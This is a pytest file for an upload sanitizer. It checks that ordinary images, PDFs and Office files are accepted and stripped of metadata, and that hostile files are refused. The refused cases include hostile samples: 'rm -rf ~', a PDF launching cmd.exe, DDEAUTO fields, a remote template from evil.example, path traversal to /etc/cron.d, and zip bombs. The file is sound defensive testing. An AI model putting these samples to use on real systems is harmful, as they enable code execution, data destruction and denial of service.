"""What is taken and what is refused, by content: a table of honest and of hostile files."""

from __future__ import annotations

import io
from collections.abc import Callable

import pikepdf
import pytest
from PIL import Image
from tests.files.making import (
    archive,
    archive_that_lies,
    document,
    javascript,
    pdf,
    pdf_with_file,
    pdf_with_table_bomb,
    picture,
    picture_that_claims,
    relation,
    spreadsheet,
)

from xiangnuan.files.kinds import clean_file
from xiangnuan.files.office import DOCX, XLSX
from xiangnuan.files.refusals import Refused

MEGABYTE = 1024 * 1024
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
_HYPERLINK = relation(b"https://example.org/", b"hyperlink")

TAKEN: dict[str, tuple[Callable[[], bytes], str]] = {
    "a photo": (lambda: picture("JPEG"), "image/jpeg"),
    "a photo in CMYK": (lambda: picture("JPEG", mode="CMYK"), "image/jpeg"),
    "a scan": (lambda: picture("PNG", mode="L"), "image/png"),
    "a scan of two colours": (lambda: picture("PNG", mode="1"), "image/png"),
    "a picture with palette": (lambda: picture("PNG", mode="P"), "image/png"),
    "a picture of 16 bit": (lambda: picture("PNG", mode="I;16"), "image/png"),
    "a picture from a chat": (lambda: picture("WEBP", mode="RGBA"), "image/webp"),
    "a PDF": (pdf, "application/pdf"),
    "a document": (document, DOCX),
    "a document with a link to press": (lambda: document(word___rels__document_dot_xml_dot_rels=_HYPERLINK), DOCX),
    "a spreadsheet": (spreadsheet, XLSX),
}

REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "nothing": (lambda: b"", "empty"),
    "an SVG with a script": (
        lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        "wrong_type",
    ),
    "a page": (lambda: b"<!DOCTYPE html><script>alert(1)</script>", "wrong_type"),
    "a program": (lambda: b"MZ" + bytes(2000), "wrong_type"),
    "a program of Linux": (lambda: b"\x7fELF" + bytes(2000), "wrong_type"),
    "a shell script": (lambda: b"#!/bin/sh\nrm -rf ~\n", "wrong_type"),
    "a GIF": (lambda: picture("GIF"), "wrong_type"),
    "a TIFF": (lambda: picture("TIFF"), "wrong_type"),
    "a RAR": (lambda: b"Rar!\x1a\x07\x00" + bytes(100), "wrong_type"),
    "a HEIC photo": (lambda: b"\0\0\0\x18ftypheic" + bytes(100), "heic"),
    "an old Word file": (lambda: _OLE, "old_office"),
    "a photo of noise": (lambda: b"\xff\xd8\xff\xe0" + bytes(500), "damaged"),
    "a photo cut off": (lambda: picture("JPEG", (800, 600), quality=95)[:900], "damaged"),
    "a page that begins like a PDF": (lambda: b"%PDF-1.4\n<script>alert(1)</script>", "damaged"),
    "a picture that claims 60000 by 60000": (lambda: picture_that_claims(60_000, 60_000), "too_many_pixels"),
    "a picture that claims 9000 by 9000": (lambda: picture_that_claims(9_000, 9_000), "too_many_pixels"),
    "a PDF with a script at opening": (lambda: pdf(OpenAction=javascript()), "scripts"),
    "a PDF with a script hidden deep": (
        lambda: pdf(Nested=pikepdf.Array([pikepdf.Dictionary(A=pikepdf.Dictionary(N=javascript()))])),
        "scripts",
    ),
    "a PDF that starts a program": (
        lambda: pdf(OpenAction=pikepdf.Dictionary(S=pikepdf.Name("/Launch"), F=pikepdf.String("cmd.exe"))),
        "scripts",
    ),
    "a PDF with an XFA form": (lambda: pdf(AcroForm=pikepdf.Dictionary(XFA=pikepdf.String("x"))), "scripts"),
    "a PDF with a file in it": (pdf_with_file, "embedded_files"),
    "a PDF with a bomb for a table": (lambda: pdf_with_table_bomb(80 * MEGABYTE), "too_large"),
    "a PDF with a bomb for a table under an escaped name": (
        lambda: pdf_with_table_bomb(80 * MEGABYTE).replace(b"/ObjStm", b"/#4fbjStm"),
        "too_large",
    ),
    "a PDF with a bomb behind a long dictionary": (
        lambda: pdf_with_table_bomb(80 * MEGABYTE).replace(b"/Filter", b"/Pad(" + b"x" * 9000 + b")/Filter"),
        "too_large",
    ),
    "a PDF with a table packed twice": (
        lambda: pdf_with_table_bomb(1000).replace(b"/FlateDecode", b"[/FlateDecode/FlateDecode]"),
        "damaged",
    ),
    "a zip of photos": (lambda: archive({"1.jpg": picture()}), "wrong_type"),
    "a zip bomb": (lambda: document(word__media__a_dot_bin=bytes(40 * MEGABYTE)), "too_large"),
    "a bomb of many parts": (lambda: archive({f"word/{at}.xml": b"" for at in range(1_200)}), "too_large"),
    "a bomb that tells a small size": (lambda: archive_that_lies(100, 3 * MEGABYTE), "too_large"),
    "a part that climbs out": (
        lambda: archive({"[Content_Types].xml": b"x", "../../etc/cron.d/x": b"x"}),
        "path_names",
    ),
    "a part on another drive": (lambda: archive({"[Content_Types].xml": b"x", "C:\\x.xml": b"x"}), "path_names"),
    "a part at the root": (lambda: archive({"[Content_Types].xml": b"x", "/etc/x.xml": b"x"}), "path_names"),
    "two parts of one name": (lambda: archive({"word/document.xml": b"x", "word/Document.xml": b"y"}), "path_names"),
    "a document with macros": (lambda: document(word__vbaProject_dot_bin=b"x"), "macros"),
    "a document that says it has macros": (
        lambda: document(b"<Default ContentType='x.macroEnabled.main+xml'/>"),
        "macros",
    ),
    "a spreadsheet with macros": (lambda: spreadsheet(xl__vbaProject_dot_bin=b"x"), "macros"),
    "a spreadsheet with macros of Excel 4": (lambda: spreadsheet(xl__macrosheets__sheet1_dot_xml=b"x"), "macros"),
    "a document with a program in it": (lambda: document(word__embeddings__oleObject1_dot_bin=b"x"), "embedded_files"),
    "a document with a control": (lambda: document(word__activeX__activeX1_dot_xml=b"x"), "embedded_files"),
    "a template from elsewhere": (
        lambda: document(
            word___rels__settings_dot_xml_dot_rels=relation(b"https://evil.example/t.dotm", b"attachedTemplate")
        ),
        "external_links",
    ),
    "a link to a file of the network": (
        lambda: document(word___rels__document_dot_xml_dot_rels=relation(b"file://evil/share", b"hyperlink")),
        "external_links",
    ),
    "a field that starts a program": (
        lambda: document(word__footer1_dot_xml=b"<p><instrText xml:space='preserve'> DDEAUTO cmd </instrText></p>"),
        "external_links",
    ),
    "a field whose words are spread over pieces": (
        lambda: document(
            word__document2_dot_xml=b"<p><r><instrText> DD</instrText></r><r><instrText>EAUTO cmd</instrText></r></p>"
        ),
        "external_links",
    ),
    "a simple field that starts a program": (
        lambda: document(word__header1_dot_xml=b"<w:p xmlns:w='w'><w:fldSimple w:instr='&#68;DE cmd'/></w:p>"),
        "external_links",
    ),
    "a template from elsewhere, said in another encoding": (
        lambda: document(
            word___rels__settings_dot_xml_dot_rels=(
                "<?xml version='1.0' encoding='utf-16'?>"
                + relation(b"https://evil.example/t", b"attachedTemplate").decode()
            ).encode("utf-16")
        ),
        "external_links",
    ),
    "a way out hidden by a sign": (
        lambda: document(word___rels__x_dot_rels=relation(b"file://a>b", b"image").replace(b"Ext", b"&#69;xt")),
        "external_links",
    ),
    "macros under another name": (
        lambda: document(word___rels__x_dot_rels=relation(b"harmless.dat", b"vbaProject")),
        "macros",
    ),
    "a page in a document": (
        lambda: document(word___rels__x_dot_rels=relation(b"a.dat", b"aFChunk").replace(b"External", b"Internal")),
        "external_links",
    ),
    "a list of parts that is giant": (
        lambda: document(b"<!-- " + b"".join(b"%d" % at for at in range(900_000)) + b" -->"),
        "too_large",
    ),
    "a directory without end": (lambda: archive({f"{at:0200d}": b"" for at in range(3_000)}), "too_large"),
    "a workbook linked to another": (
        lambda: spreadsheet(xl__externalLinks__externalLink1_dot_xml=b"<x/>"),
        "external_links",
    ),
    "a document that expands itself": (lambda: document(word__x_dot_xml=b"<!DOCTYPE x [<!ENTITY a 'a'>]>"), "damaged"),
}


def take(content: bytes) -> tuple[str, bytes]:
    """The content type found, and the bytes that would be kept."""
    clean = clean_file(io.BytesIO(content))
    return clean.content_type, clean.content.read()


@pytest.mark.parametrize("name", TAKEN)
def test_an_honest_file_is_taken_for_what_it_is(name: str) -> None:
    make, kind = TAKEN[name]
    found, kept = take(make())
    assert found == kind
    assert kept
    # What is kept would be taken again.
    assert take(kept)[0] == kind


@pytest.mark.parametrize("name", REFUSED)
def test_a_hostile_or_broken_file_is_refused_with_a_sentence(name: str) -> None:
    make, code = REFUSED[name]
    with pytest.raises(Refused) as wrong:
        take(make())
    assert wrong.value.code == code
    assert wrong.value.zh.endswith("。")
    assert wrong.value.en.endswith(".")


def test_a_photo_keeps_neither_place_nor_camera_nor_what_hangs_behind_it() -> None:
    exif = Image.Exif()
    exif[0x0110] = "Secret Camera"
    exif.get_ifd(0x8825)[2] = (30.0, 40.0, 50.0)
    content = picture("JPEG", exif=exif, comment=b"said") + b"PK\x03\x04<script>hidden</script>"
    assert b"Secret Camera" in content
    _, kept = take(content)
    with Image.open(io.BytesIO(kept)) as image:
        assert dict(image.getexif()) == {}
        assert set(image.info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density"}
    assert b"Secret Camera" not in kept
    assert b"said" not in kept
    assert b"hidden" not in kept


def test_a_scan_keeps_no_text_of_its_maker() -> None:
    exif = Image.Exif()
    exif[0x0110] = "Secret Camera"
    _, kept = take(picture("PNG", exif=exif))
    assert b"Secret" not in kept
    assert b"eXIf" not in kept


def test_a_photo_taken_sideways_stands_upright() -> None:
    exif = Image.Exif()
    exif[0x0112] = 6
    _, kept = take(picture("JPEG", (60, 40), exif=exif))
    with Image.open(io.BytesIO(kept)) as image:
        assert image.size == (40, 60)


def test_a_giant_photo_is_made_smaller_and_not_refused() -> None:
    _, kept = take(picture("JPEG", (9_000, 100)))
    with Image.open(io.BytesIO(kept)) as image:
        assert image.size[0] == 4096


def test_a_pdf_is_kept_as_it_came_so_that_a_seal_on_it_holds() -> None:
    content = pdf()
    assert take(content)[1] == content


def test_a_pdf_that_had_to_be_mended_is_kept_mended() -> None:
    content = pdf().replace(b"startxref", b"startxxxx")
    _, kept = take(content)
    assert kept != content
    assert b"startxref" in kept


def test_the_sentence_follows_the_language() -> None:
    from django.utils import translation

    with pytest.raises(Refused) as wrong:
        take(b"")
    assert wrong.value.text == "文件是空的。"
    with translation.override("en"):
        assert wrong.value.text == "The file is empty."
